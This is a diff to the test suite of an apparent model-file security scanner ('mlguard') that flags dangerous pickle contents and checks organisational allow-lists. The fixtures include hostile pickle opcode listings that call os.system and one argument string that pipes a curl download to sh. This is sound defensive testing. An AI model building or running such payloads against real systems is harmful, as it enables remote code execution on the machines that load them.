@@ -20,21 +20,26 @@ import time
 import uuid
 import zipfile
 import zlib
-from collections.abc import Callable
+from collections.abc import Callable, Mapping
+from dataclasses import replace
 from pathlib import Path
+from typing import Any
 
 import numpy as np
 import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
+from mlguard.config import Allow, Config
 from mlguard.facts import ModelFile
-from mlguard.findings import Detection, Gap, Proof, Record
+from mlguard.findings import Detection, Gap, Proof
+from mlguard.gate import judge
 from mlguard.scanners import Context
 from mlguard.scanners.model import ModelScanner
 from mlguard.workers import examine
 from tests import builders
 from tests.builders import assemble
+from tests.models import checks_of, gaps_of, records_of, rules_of
 from tests.scanning import scan
 
 DANGEROUS, UNKNOWN = "model/dangerous-import", "model/unknown-callable"
@@ -44,29 +49,6 @@ SYSTEM = 'SHORT_BINUNICODE "os"\nSHORT_BINUNICODE "system"\nSTACK_GLOBAL\nSHORT_
 HOSTILE = assemble(f"PROTO 4\n{SYSTEM}STOP")
 HOSTILE_TEXT = assemble("GLOBAL os system\nMARK\nUNICODE 'true'\nTUPLE\nREDUCE\nSTOP")
 CLEAN = assemble("PROTO 4\nGLOBAL collections OrderedDict\nEMPTY_TUPLE\nREDUCE\nSTOP")
-
-
-def records_of(content: bytes, root: Path, name: str = "model.pkl") -> list[Record]:
-    from mlguard import discovery
-
-    (root / name).parent.mkdir(parents=True, exist_ok=True)
-    (root / name).write_bytes(content)
-    scanner = ModelScanner()
-    groups = scanner.plan(discovery.classify(root, [name]).artifacts, {})
-    return [record for group in groups for record in examine(scanner, group, Context(root))]
-
-
-def rules_of(content: bytes, root: Path, name: str = "model.pkl") -> set[str]:
-    return {record.rule for record in records_of(content, root, name) if isinstance(record, Detection)}
-
-
-def checks_of(content: bytes, root: Path, name: str = "model.pkl", rule: str = MALFORMED) -> set[str]:
-    found = records_of(content, root, name)
-    return {record.check for record in found if isinstance(record, Detection) and record.rule == rule}
-
-
-def gaps_of(content: bytes, root: Path, name: str = "model.pkl") -> list[Gap]:
-    return [record for record in records_of(content, root, name) if isinstance(record, Gap)]
 
 
 def hidden(build: Callable[[bytes], bytes]) -> bytes:
@@ -314,6 +296,9 @@ BLOCKED = {
         TUPLE2
         REDUCE
         STOP""",
+    "EXT1": "PROTO 2\nEXT1 1\nSTOP",
+    "EXT2": "PROTO 2\nEXT2 300\nSTOP",
+    "EXT4": "PROTO 2\nEXT4 70000\nSTOP",
     "a text line at the very end": "PROTO 2\nRAW 63 6f730a 73797374656d0a",
 }
 
@@ -325,9 +310,6 @@ def test_a_hostile_pickle_is_blocked(name: str, tmp_path: Path) -> None:
 
 DOUBTFUL = {
     "unknown code, then a break": "GLOBAL example.evil start\nMARK\nUNICODE 'x'\nTUPLE\nREDUCE\nRAW ff",
-    "EXT1": "PROTO 2\nEXT1 1\nSTOP",
-    "EXT2": "PROTO 2\nEXT2 300\nSTOP",
-    "EXT4": "PROTO 2\nEXT4 70000\nSTOP",
     "PERSID": "PROTO 2\nPERSID 7\nSTOP",
     "NEXT_BUFFER": "PROTO 5\nNEXT_BUFFER\nSTOP",
     "TorchScript's classes outside": "PROTO 2\nGLOBAL __torch__.Net Net\nEMPTY_TUPLE\nNEWOBJ\nSTOP",
@@ -568,10 +550,26 @@ def test_numbers_are_proven_clean_and_not_called_executable(name: str, content: 
     assert [record for record in found if isinstance(record, Proof)]
 
 
+def shipped(root: Path, settings: Mapping[str, Any]) -> set[str]:
+    return {finding.rule for finding in scan(root, ["model"], settings).findings if finding.scanner == "model"}
+
+
+def test_a_format_is_reported_only_where_it_is_not_allowed(tmp_path: Path) -> None:
+    (tmp_path / "model.pkl").write_bytes(CLEAN)
+    rules = [
+        shipped(tmp_path, {"model": {"formats": allowed}} if allowed else {})
+        for allowed in (["safetensors"], ["pickle"], None)
+    ]
+
+    assert rules == [{FORMAT}, set(), set()]
+
+
 def test_objects_in_an_array_file_are_called_executable(tmp_path: Path) -> None:
     content = saved(np.save, np.array([1, "a"], dtype=object), allow_pickle=True)
 
-    assert rules_of(content, tmp_path, "a.npy") == {FORMAT}
+    (tmp_path / "a.npy").write_bytes(content)
+
+    assert shipped(tmp_path, {"model": {"formats": ["npy"]}}) == {FORMAT}
 
 
 @pytest.mark.parametrize(
@@ -584,7 +582,6 @@ def test_objects_in_an_array_file_are_called_executable(tmp_path: Path) -> None:
         ("e.bin", "(a)\n"),
         ("f.model", '{"a": 1}\n'),
         ("g.model", "config\nmodel\ndata\n"),
-        ("h.bin", "import os\nos.system('x')\n"),
         ("i.bin", "I am a text.\nIt ends.\n"),
         ("j.model", "N.\n"),
         ("k.p", "#include <os>\n"),
@@ -592,6 +589,11 @@ def test_objects_in_an_array_file_are_called_executable(tmp_path: Path) -> None:
 )
 def test_text_under_a_models_name_is_not_a_pickle(name: str, text: str, tmp_path: Path) -> None:
     assert records_of(text.encode(), tmp_path, name) == []
+
+
+def test_python_under_a_models_name_is_a_program_or_a_gap(tmp_path: Path) -> None:
+    assert rules_of(b"import os\nos.system('true')\n", tmp_path, "h.bin") == {DANGEROUS}
+    assert ["source" in gap.reason for gap in gaps_of(b"import math\nx = math.pi\n", tmp_path, "h.bin")] == [True]
 
 
 def test_a_picture_under_a_models_name_says_nothing(tmp_path: Path) -> None:
@@ -628,7 +630,7 @@ def test_torchscript_classes_belong_to_torchscript_archives(tmp_path: Path) -> N
     )
 
     assert UNKNOWN in rules_of(content, tmp_path, "a.pt")
-    assert rules_of(script, tmp_path, "b.pt") == {FORMAT}
+    assert rules_of(script, tmp_path, "b.pt") == set()
 
 
 def test_a_legacy_torch_file_is_read_to_its_end(tmp_path: Path) -> None:
@@ -654,14 +656,50 @@ def test_a_legacy_torch_file_is_read_to_its_end(tmp_path: Path) -> None:
     assert [record.tensors for record in found if isinstance(record, ModelFile)] == [1]
 
 
-def test_an_allowed_name_is_not_reported(tmp_path: Path) -> None:
-    (tmp_path / "model.pkl").write_bytes(assemble("PROTO 4\nGLOBAL example.nets Net\nEMPTY_TUPLE\nNEWOBJ\nSTOP"))
+# -- names that the organisation allows
 
-    before = scan(tmp_path, ["model"])
-    after = scan(tmp_path, ["model"], {"model": {"allow": ["example.nets.Net"]}})
+OWN = "PROTO 4\nGLOBAL example.nets Net\nEMPTY_TUPLE\nNEWOBJ\nSTOP"
+LOADER = "PROTO 4\nGLOBAL example.nets load_net\nSHORT_BINUNICODE 'a'\nTUPLE1\nREDUCE\nSTOP"
 
-    assert UNKNOWN in {finding.rule for finding in before.findings}
-    assert UNKNOWN not in {finding.rule for finding in after.findings}
+
+def allowing(name: str, until: str = "2027-01-01") -> Config:
+    entry = Allow(name, "reviewed with the change that added it", "ml-team", datetime.date.fromisoformat(until))
+    return replace(Config(), allow=(entry,))
+
+
+def states(listing: str, config: Config, root: Path) -> set[tuple[str, str]]:
+    (root / "model.pkl").write_bytes(assemble(listing))
+    report, _ = judge(scan(root, ["model"]), config, datetime.date(2026, 11, 23))
+    return {(finding.rule, finding.state) for finding in report.findings if finding.scanner == "model"}
+
+
+@pytest.mark.parametrize("name", ["example.nets.Net", "example.nets.*", "example.nets.N*t"])
+def test_an_allowed_name_is_set_aside_with_its_reason(name: str, tmp_path: Path) -> None:
+    assert states(OWN, allowing(name), tmp_path) == {(UNKNOWN, "ignored")}
+
+
+@pytest.mark.parametrize(
+    "config", [allowing("example.nets.Other"), allowing("example.*"), allowing("example.nets.Net", "2026-11-22")]
+)
+def test_a_name_that_no_entry_in_force_allows_stays(config: Config, tmp_path: Path) -> None:
+    assert states(OWN, config, tmp_path) == {(UNKNOWN, "new")}
+
+
+def test_a_loader_is_allowed_by_its_whole_name_only(tmp_path: Path) -> None:
+    whole, pattern = allowing("example.nets.load_net"), allowing("example.nets.*")
+
+    assert (DANGEROUS, "ignored") in states(LOADER, whole, tmp_path)
+    assert (DANGEROUS, "new") in states(LOADER, pattern, tmp_path)
+
+
+def test_an_allowed_name_does_not_cover_what_its_arguments_show(tmp_path: Path) -> None:
+    shell = LOADER.replace("'a'", "'curl http://192.0.2.1/x | sh'").replace("load_net", "Net").replace("Net", "start")
+
+    assert (DANGEROUS, "new") in states(shell, allowing("example.nets.start"), tmp_path)
+
+
+def test_the_standard_library_cannot_be_allowed(tmp_path: Path) -> None:
+    assert (DANGEROUS, "new") in states(f"PROTO 4\n{SYSTEM}STOP", allowing("os.system"), tmp_path)
 
 
 # -- archives and headers that do not fit
@@ -705,14 +743,13 @@ def test_archives_without_model_files_are_gaps_and_no_alarm(tmp_path: Path) -> N
     for name, content in {"a.docx": office, "b.jar": office, "c.zip": office, "d.tar": builders.tar({"a.txt": b"x"}),
                           "e.gz": gzip.compress(b"text"), "f.7z": b"7z\xbc\xaf\x27\x1c" + bytes(40)}.items():  # fmt: skip
         found = records_of(content, tmp_path, name)
-        assert [(type(r), r.kind) for r in found if isinstance(r, Gap)] == [(Gap, "skipped")], name
+        assert [r.kind for r in found if isinstance(r, Gap)] == ["unreadable" if name == "f.7z" else "skipped"], name
         assert not [r for r in found if isinstance(r, Detection)], name
 
 
 @pytest.mark.parametrize(
     ("name", "content", "word"),
     [
-        ("m.h5", b"\x89HDF\r\n\x1a\n" + bytes(50), "HDF5"),
         ("m.gguf", b"GGUF" + bytes(50), "GGUF"),
         ("m.onnx", b"\x08\x07\x12\x07pytorch" + bytes(50), "ONNX"),
         ("m.dat", bytes(range(256)), "binary"),
